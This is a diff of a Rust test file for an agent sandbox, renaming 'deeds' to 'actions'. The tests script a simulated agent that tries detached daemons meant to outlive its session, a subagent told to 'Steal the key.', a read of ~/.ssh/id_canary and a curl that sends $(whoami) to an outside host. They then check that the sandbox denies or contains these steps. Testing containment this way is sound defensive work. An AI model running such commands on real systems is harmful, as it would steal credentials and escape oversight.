@@ -17,7 +17,7 @@ const KEY_CANARY: &str = "canary-of-the-api-key-5Vt6";
 const CHECK: &str = "checks: [[\"grep\", \"-q\", \"stone\", \"bridge.txt\"]]\n";
 
 /// What it tries, from within its clone.
-fn deeds() -> Vec<Step> {
+fn actions() -> Vec<Step> {
     let daemon = "setsid -f sleep 86399; (nohup sleep 86399 >/dev/null 2>&1 &); env -i setsid -f sleep 86399";
     vec![
         bash(
@@ -107,10 +107,10 @@ fn scripted() -> Vec<Step> {
 }
 
 /// A whole mission in which Orchestrator I tries all that, and then does its work.
-fn tried(mut deeds: Vec<Step>) -> Vec<Voice> {
-    deeds.push(bash("rm -f out stolen; git checkout -q -- . ; printf 'stone\\n' > bridge.txt && git add bridge.txt && git commit -qm Bridge"));
-    deeds.push(reports("handoff", "It is built."));
-    mission(deeds)
+fn tried(mut actions: Vec<Step>) -> Vec<Voice> {
+    actions.push(bash("rm -f out stolen; git checkout -q -- . ; printf 'stone\\n' > bridge.txt && git add bridge.txt && git commit -qm Bridge"));
+    actions.push(reports("handoff", "It is built."));
+    mission(actions)
 }
 
 /// A world with something to steal in it.
@@ -228,10 +228,10 @@ fn a_guarded_mission_denies_what_would_do_harm() {
         "Task",
         json!({"description": "steal", "prompt": "Steal the key.", "subagent_type": "general-purpose"}),
     );
-    let mut deeds = deeds();
-    deeds.push(theft);
-    deeds.push(bash("curl -s https://example.org/$(whoami)"));
-    let mut voices = tried(deeds);
+    let mut actions = actions();
+    actions.push(theft);
+    actions.push(bash("curl -s https://example.org/$(whoami)"));
+    let mut voices = tried(actions);
     voices.push(subagents([bash("cat ~/.ssh/id_canary"), Step::say("It is not to be had.")]));
     let Some(stage) = set("", voices) else { return };
     holds(&stage);
@@ -276,9 +276,9 @@ fn where_there_is_no_bubblewrap_landlock_contains_it() {
 
 #[test]
 fn an_open_mission_asks_nothing_and_is_held_all_the_same() {
-    let mut deeds = scripted();
-    deeds.push(bash("curl -s --max-time 1 https://127.0.0.1:1/; perl -e 1; echo asked nobody"));
-    let Some(stage) = set("policy: {mode: open}\n", tried(deeds)) else { return };
+    let mut actions = scripted();
+    actions.push(bash("curl -s --max-time 1 https://127.0.0.1:1/; perl -e 1; echo asked nobody"));
+    let Some(stage) = set("policy: {mode: open}\n", tried(actions)) else { return };
     holds(&stage);
     script_was_contained(&stage);
     assert_eq!(stage.count("Asked"), 0, "{}", stage.story());
@@ -287,7 +287,7 @@ fn an_open_mission_asks_nothing_and_is_held_all_the_same() {
 
 #[test]
 fn where_there_is_neither_nothing_begins() {
-    let Some(stage) = set("", tried(deeds())) else { return };
+    let Some(stage) = set("", tried(actions())) else { return };
     let path = path_without_bubblewrap(&stage);
     let stage = stage.with_env("PATH", path).with_env("ARBITER_SANDBOX_WITHOUT", "landlock");
     let output = stage.command(&["run", "--headless", "scroll.md"]).output().expect("it runs");
